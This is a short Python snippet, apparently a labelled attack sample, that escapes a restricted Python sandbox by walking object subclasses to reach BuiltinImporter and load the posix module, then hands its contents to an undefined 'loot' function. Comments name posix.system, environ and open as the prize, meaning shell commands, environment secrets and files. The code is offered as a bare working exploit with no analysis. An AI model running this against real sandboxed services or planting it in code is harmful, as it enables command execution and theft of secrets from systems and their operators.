# A01: ().__class__.__bases__[0].__subclasses__() -> BuiltinImporter
# .load_module('posix') -> posix.system / environ / open.
def handle(request):
    classes = ().__class__.__bases__[0].__subclasses__()  # GATE
    out = []
    for c in classes:
        if c.__name__ == 'BuiltinImporter':
            posix = c.load_module('posix')
            out.append('got posix')
            return loot(posix.__dict__, out)
    return out
